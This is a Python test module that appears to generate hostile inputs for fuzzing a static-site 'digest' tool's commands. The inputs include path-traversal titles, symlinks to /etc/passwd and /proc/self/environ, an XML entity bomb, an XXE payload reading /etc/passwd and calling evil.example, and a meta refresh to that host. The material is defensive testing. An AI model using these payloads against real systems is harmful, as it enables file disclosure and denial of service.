# ruff: noqa: E501  # texts as they are, however long
"""Hostile digests, files and sites for the commands other than `build`."""

import json
from collections.abc import Iterator, Mapping

from tests.hostile.case import POLYGLOT, Case, Data, card, fields, note
from tests.making import SETTINGS, SPEECH

EVERY = (
    ("build", "-j", "1", "-v"),
    ("check", "--rights", "--fix=all", "--dry-run"),
    ("check", "--format", "github"),
    ("verify", "site", "--rights"),
    ("export", "csv", "-o", "site/out.csv"),
    ("takedown", "speech", "--dry-run"),
    ("clean",),
)

TITLES = (
    "'" + "a" * 5000,
    "../../../outside/x",
    "/etc/x",
    ".",
    "..",
    "",
    "\u202ex\u2066",
    "<script>hostile()</script>",
    "x" * 300,
    "漢" * 300,
    "\u0301" * 50,
    "--help",
    "a\nb: c\n---\nd",
    "a: b #c",
    "con",
    "{{7*7}}",
    "\x1b[31mx\x00y"[:5],
    "- *x &y !z",
    "index",
    "a\\..\\b",
)


def made() -> Iterator[Case]:
    """`digest new`: whatever a title says, the file lies where it should and can be built."""
    for n, title in enumerate(TITLES):
        for kind in ("annotation", "source", "page"):
            yield Case("made", f"{kind}-{n}", commands=(("new", kind, "--", title), ("check",)), writes=("content",))
    for kind, folder in (("annotation", "annotations"), ("source", "sources"), ("page", "pages")):
        if kind == "page":
            yield Case("made", "link-page", links={f"content/{folder}": "OUTSIDE"}, commands=(("new", kind, "Hello"),))
        to_new = {f"content/{folder}/hello.md": "OUTSIDE/new.md"}
        yield Case("made", f"dangling-{kind}", links=to_new, commands=(("new", kind, "Hello"),))
        yield Case("made", f"pipe-{kind}", pipes=(f"content/{folder}/hello.md",), commands=(("new", kind, "Hello"),))
    odd = (
        ("new", "annotation", "X", "--source", "a: b\n- c"),
        ("new", "annotation", "Y", "--source", "../x", "--date", "2021-99"),
        ("new", "annotation", "Z", "--date", POLYGLOT),
        ("new", "source", "P", "--seed", "../digest.toml"),
        ("new", "source", "Q", "--seed", "/etc/passwd"),
        ("new", "source", "R", "--seed", POLYGLOT),
        ("new", "source", "S", "--seed", "x" * 300),
    )
    yield Case("made", "odd", commands=odd, writes=("content",))
    yield Case(
        "made", "seed-link", links={"seeds/x.txt": "OUTSIDE/canary.txt"}, commands=(("new", "source", "X", "--seed", "x.txt"),)
    )
    language = {"digest.toml": SETTINGS + 'language = "en\\nrights: {mode: full, basis: x}"\n'}
    yield Case(
        "made", "language", language, commands=(("new", "source", "X"), ("check",)), writes=("content",), blames_others=True
    )
    yield Case("made", "seed-pipe", pipes=("seeds/x.txt",), commands=(("new", "source", "X", "--seed", "x.txt"),))
    yield Case("made", "init-here", commands=(("init",), ("init", "site/x\u202e"), ("init", "digest.toml")))


def asked() -> Iterator[Case]:
    """Command lines that mean no good, and digests that they meet."""
    lines = {
        "why": (("build", "--why", "../../etc/passwd"), ("build", "--why", ""), ("build", "--why", "\x1b[31m")),
        "base": (
            ("build", "--base-url", "javascript:x"),
            ("build", "--base-url", 'https://x.example/"><script>'),
            ("build", "--base-url", "https://[::1/"),
        ),
        "output": (("build", "-o", "."), ("build", "-o", "content"), ("build", "-o", "seeds/x"), ("build", "-o", "digest.toml")),
        "takedown": (("takedown", "../x"), ("takedown", "\x1b[31m"), ("takedown", "speech", "--date", POLYGLOT)),
        "root": (("build", "--root", "nowhere"), ("build", "--root", "/dev"), ("check", "--root", "/proc/self")),
        "executor": (("build", "--executor", "file:///etc/passwd"), ("build", "--executor", "dask://[::1")),
    }
    for name, commands in lines.items():
        yield Case("asked", name, commands=commands)
    reason = f"{POLYGLOT}\n---\nrights: full\n\x1b[31m\u202e"
    yield Case(
        "asked",
        "reason",
        commands=(("takedown", "speech", "--reason", reason), ("build", "-j", "1"), ("verify", "site", "--rights")),
        writes=("content",),
    )
    carded = {"seeds/other.txt": "Other\n\nA bridge was closed, and it opened again after a year.\n"}
    yield Case(
        "asked",
        "takedown-link",
        carded,
        links={"content/sources/other.md": "OUTSIDE/canary.md"},
        commands=(("takedown", "other"),),
    )
    yield Case("asked", "takedown-site", links={"site": "OUTSIDE"}, commands=(("takedown", "speech", "--dry-run"),))
    for folder in ("templates", "content/static", "content/people", "content/pages", ".digest"):
        yield Case(
            "asked",
            f"link-{folder}",
            {"content/annotations/one.md": note(people=["Ann"])},
            links={folder: "OUTSIDE"},
            commands=EVERY,
        )
    for n, (name, text) in enumerate(
        (
            ("digest.toml", SETTINGS + f"[publishers.{json.dumps('x' + POLYGLOT)}]\nmax_words = 1\n"),
            ("digest.toml", SETTINGS + '[publishers."\\u001b[31m\\u202e"]\nmax_words = 1\n'),
            ("digest.toml", SETTINGS + 'timezone = "\\u001b[31m"\n'),
            ("digest.toml", SETTINGS + "x = '" + "y" * 40_000_000 + "'\n"),
            ("content/annotations/a\nb: error[D999] x.md", note()),
            ("content/annotations/a\u202eb.md", note()),
            ("content/static/a\nb\x1b[31m", "x"),
            ("seeds/a\x1bb.txt", "x"),
            ("content/sources/speech.md", card(seed="speech.txt", sha256="0" * 64, redact=["the"])),
            ("content/sources/speech.md", card(seed="speech.txt", publisher="\x1b[31m\u202e", rights="excerpt")),
            (
                "content/sources/speech.md",
                card(seed="speech.txt", translation={"of": "xx", "by": "machine"}, redact=["river", "r"]),
            ),
            ("content/annotations/one.md", note(quotes=[{"source": "speech", "exact": "The river rise"}] * 50)),
            (
                "content/annotations/one.md",
                note(corrections=[{"date": "2026-11-22", "type": "retraction", "text": POLYGLOT}], source="speech"),
            ),
        )
    ):
        yield Case("asked", f"every-{n}", {name: text}, commands=EVERY, blames_others=True, writes=("content",))
    for name, target in {"passwd": "/etc/passwd", "canary": "OUTSIDE/canary.txt", "proc": "/proc/self/environ"}.items():
        yield Case(
            "asked",
            f"receipts-{name}",
            {"content/sources/speech.md": card(seed="speech.txt", sha256="1" * 64)},
            links={"site/quotes.json": target},
            commands=(("check",),),
            blames_others=True,
        )
    yield Case(
        "asked",
        "receipts-deep",
        {"content/sources/speech.md": card(seed="speech.txt", sha256="1" * 64), "site/quotes.json": "[" * 100_000},
        commands=(("check",), ("clean",)),
        blames_others=True,
    )


def alignments() -> Iterator[Case]:
    """Hand-made tables of paragraphs."""
    pair: dict[str, Data] = {
        "content/sources/speech.md": card(seed="speech.txt"),
        "seeds/rede.txt": "Rede\n\nDer Fluss stieg.\n\nDer Fluss fiel.\n",
        "content/sources/rede.md": fields(
            {"seed": "rede.txt", "language": "de", "translation": {"of": "en", "by": "machine", "source": "speech"}}
        ),
    }
    texts: Mapping[str, Data] = {
        "nothing": "",
        "spaces": " \n\t\n",
        "numbers": "9" * 5000 + " 1\n",
        "negative": "-1 -1\n",
        "zero": "0 0\n",
        "beyond": "1 99999\n",
        "range": "1-9999999999 1-9999999999\n",
        "back": "3-1 2-1\n",
        "many": "1 1\n" * 50_000,
        "long": "1," * 100_000 + " 1\n",
        "bytes": bytes(range(256)),
        "nul": "1\x00 1\n",
        "script": POLYGLOT,
        "yaml": "&a [*a]",
        "utf16": "1 1\n".encode("utf-16"),
        "digits": "١ ٢\n",
    }
    for name, text in texts.items():
        for file in ("rede.align", "speech.align", "x.align"):
            yield Case(
                "alignments",
                f"{file[:-6]}-{name}",
                {**pair, f"seeds/{file}": text},
                commands=(("build", "-j", "1"),),
                blames_others=True,
            )
    yield Case("alignments", "link", pair, links={"seeds/rede.align": "OUTSIDE/canary.txt"})
    yield Case("alignments", "pipe", pair, pipes=("seeds/rede.align",))


RECEIPT = {
    "annotation": "a",
    "n": 1,
    "url": "annotations/a/",
    "place": "sources/speech/#q-a-1",
    "source": "speech",
    "seed": "speech.txt",
    "text": "txt-1",
    "sha256": "0" * 64,
    "start": 0,
    "end": 5,
    "matching": "1",
    "exact": "The r",
}


def sites() -> Iterator[Case]:
    """Folders that say they are sites, for `digest verify`."""

    def quotes(**members: object) -> str:
        return json.dumps({"schema": 1, "quotations": [{**RECEIPT, **members}]})

    def listed(*paths: str) -> str:
        return json.dumps({"schema": 1, "files": dict.fromkeys(paths, "0" * 64)})

    page = '<!DOCTYPE html><html lang="en"><title>x</title>'
    files: Mapping[str, tuple[str, Data]] = {
        "integrity-up": (
            "integrity.json",
            listed("../outside/canary.txt", "/etc/passwd", "a\0b", "", ".", "..", "x" * 5000, "\x1b[31m\u202e"),
        ),
        "integrity-parts": (
            "integrity.json",
            json.dumps({"parts": {"../outside/canary.txt": "0", "integrity.json": "0", "/dev/zero": "0"}}),
        ),
        "integrity-types": ("integrity.json", json.dumps({"files": [1, None], "parts": 5})),
        "integrity-deep": ("integrity.json", '{"files":' * 100_000),
        "integrity-bytes": ("integrity.json", bytes(range(256))),
        "integrity-many": ("integrity.json", listed(*(f"f{n}" for n in range(50_000)))),
        "quotes-seed-up": ("quotes.json", quotes(seed="../../outside/canary.txt")),
        "quotes-seed-abs": ("quotes.json", quotes(seed="/etc/passwd")),
        "quotes-seed-nul": ("quotes.json", quotes(seed="a\0b")),
        "quotes-seed-device": ("quotes.json", quotes(seed="/dev/zero")),
        "quotes-url-up": ("quotes.json", quotes(url="../../outside/canary.txt", place="//evil.example/#x")),
        "quotes-types": (
            "quotes.json",
            json.dumps({"quotations": [5, None, [], {"annotation": [], "n": {}, "start": "x", "exact": 7}]}),
        ),
        "quotes-numbers": ("quotes.json", quotes(start=-(10**30), end=10**30, n=10**30)),
        "quotes-float": ("quotes.json", '{"quotations":[{"annotation":"a","n":1e999,"start":NaN,"end":-Infinity}]}'),
        "quotes-text": ("quotes.json", quotes(text=POLYGLOT, matching="999", sha256="x")),
        "quotes-charset": ("quotes.json", quotes(text="txt-1:zip", charset="zip")),
        "quotes-deep": ("quotes.json", "[" * 200_000),
        "quotes-control": ("quotes.json", quotes(annotation="\x1b[31m\u202e\n", source="\x07", exact="\x1b]0;x\x07")),
        "quotes-many": ("quotes.json", json.dumps({"quotations": [{**RECEIPT, "n": n} for n in range(5000)]})),
        "html-deep": ("index.html", page + "<div>" * 100_000),
        "html-attributes": ("index.html", page + "<a " + "x=y " * 100_000 + ">"),
        "html-open": ("index.html", page + "<" * 200_000),
        "html-comment": ("index.html", page + "<!--" * 100_000),
        "html-cdata": ("index.html", page + "<![CDATA[" * 50_000),
        "html-entities": ("index.html", page + "&#x110000;&#99999999999;&" * 10_000),
        "html-marks": ("sources/speech/index.html", page + "".join(f'<mark data-quotation="q-a-{n}">x' for n in range(20_000))),
        "html-utf16": ("index.html", (page + "<p>x").encode("utf-16")),
        "html-nul": ("index.html", b"\0" * 100_000),
        "xml-bomb": (
            "feed.xml",
            "<!DOCTYPE r [<!ENTITY a 'aaaaaaaaaa'>"
            + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(10))
            + "]><feed>&k;</feed>",
        ),
        "xml-external": (
            "feed.xml",
            "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'><!ENTITY % b SYSTEM 'http://evil.example/'>%b;]><feed>&a;</feed>",
        ),
        "xml-deep": ("feed.xml", "<a>" * 200_000),
        "xml-attributes": ("feed.xml", "<feed " + " ".join(f"a{n}='x'" for n in range(50_000)) + "/>"),
        "json-deep": ("feed.json", '{"items":[' * 100_000),
        "json-number": ("timeline.json", "9" * 100_000),
        "json-types": ("feed.json", json.dumps({"items": [5, {"content_html": 5, "url": None}, []]})),
        "jsonld-types": (
            "annotations/a/annotation.jsonld",
            json.dumps({"target": [5, {"selector": "x", "source": 5}], "body": 7}),
        ),
        "csv-quote": ("quotations.csv", '"' * 200_000),
        "csv-long": ("quotations.csv", "a," * 500_000),
        "csv-nul": ("quotations.csv", "a\0b,c\n"),
        "ics": ("calendar.ics", "BEGIN:VCALENDAR\r\n " * 20_000),
        "search": ("search/words.json", json.dumps({"x": [[1, [2, [3]]]]})),
        "name": ("a\nb\x1b[31m\u202e.html", page),
        "name-bytes": ("a\udcffb.html", page),
        "large": ("index.html", page + "x" * 40_000_000),
    }
    commands = (
        ("verify", "copy"),
        ("verify", "copy", "--rights", "--format", "json"),
        ("takedown", "speech", "--dry-run", "--site", "copy"),
    )
    for name, (path, data) in files.items():
        yield Case("sites", name, {f"copy/{path}": data, "copy/x.html": page}, commands=commands, blames_others=True, seconds=60)
    for name, target in {
        "out": "OUTSIDE/canary.txt",
        "zero": "/dev/zero",
        "self": "loop",
        "folder": "OUTSIDE",
        "root": "/",
    }.items():
        for path in ("index.html", "integrity.json", "quotes.json", "loop"):
            yield Case(
                "sites",
                f"link-{name}-{path}",
                {"copy/x.html": page},
                links={f"copy/{path}": target},
                commands=commands,
                blames_others=True,
            )
    yield Case(
        "sites",
        "seeds-link",
        {"copy/quotes.json": quotes()},
        links={"copy/seeds": "OUTSIDE"},
        commands=(("verify", "copy", "--seeds", "copy/seeds/../../seeds"),),
        blames_others=True,
    )
    yield Case(
        "sites",
        "pipes",
        {"copy/x.html": page},
        pipes=("copy/index.html", "copy/quotes.json", "copy/integrity.json"),
        commands=commands,
        blames_others=True,
    )


def brought() -> Iterator[Case]:
    """What `digest import` is given and cannot be read, or must not be written."""
    page = (
        "<title>Bridge closed</title><article><h1>Bridge closed</h1>"
        + "".join(f"<p>Paragraph {n} of the long story about the harbour bridge and its {n} cracks.</p>" for n in range(30))
        + "</article>"
    )
    run = ("import", "in/p.html")
    yield Case("brought", "page", {"in/p.html": page}, commands=(run, ("build", "-j", "1")), writes=("content", "seeds"))
    for name in ("seeds/bridge-closed.txt", "seeds/bridge-closed.html", "content/sources/bridge-closed.md"):
        yield Case("brought", f"dangling-{name[-14:]}", {"in/p.html": page}, links={name: "OUTSIDE/new"}, commands=(run,))
        yield Case("brought", f"pipe-{name[-14:]}", {"in/p.html": page}, pipes=(name,), commands=(run,))
    for suffix in ("html", "jsonld", "xml", "mhtml"):
        yield Case("brought", f"pipe-{suffix}", pipes=(f"in/p.{suffix}",), commands=(("import", f"in/p.{suffix}"),))
    yield Case("brought", "device", commands=(("import", "/dev/zero"), ("import", "/dev/null"), ("import", "/proc/self/mem")))
    heads: Mapping[str, Data] = {
        "canonical": "<link rel=canonical href='javascript:hostile()'>",
        "date": "<meta property=article:published_time content='99999-99-99T99:99:99Z'>",
        "author": f"<meta name=author content='{POLYGLOT.replace(chr(39), '')}'>",
        "site": f"<meta property=og:site_name content='{POLYGLOT.replace(chr(39), '')}'>",
        "language": "<html lang='../../x'>",
        "charset": "<meta charset=utf-7>",
        "charset-zip": "<meta charset=zip>",
        "base": "<base href='file:///etc/'>",
        "jsonld": "<script type='application/ld+json'>{\"headline\": [[[" + "[" * 5000 + "</script>",
        "jsonld-types": '<script type=\'application/ld+json\'>{"@type":"NewsArticle","headline":{"a":1},"author":[5,{"name":[]}],"datePublished":5}</script>',
        "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "singlefile": "<!--\n Page saved with SingleFile \n url: javascript:x \n saved date: Xyz Foo 99 9999 99:99:99 GMT+9999 (x)\n-->",
    }
    for name, head in heads.items():
        yield Case(
            "brought",
            f"head-{name}",
            {"in/p.html": f"{head}{page}"},
            commands=(run, ("build", "-j", "1")),
            writes=("content", "seeds"),
            blames_others=True,
        )
    yield Case(
        "brought",
        "link-imported",
        {"seeds/speech.txt": SPEECH},
        links={"content/annotations/imported": "OUTSIDE"},
        commands=(("check",),),
    )
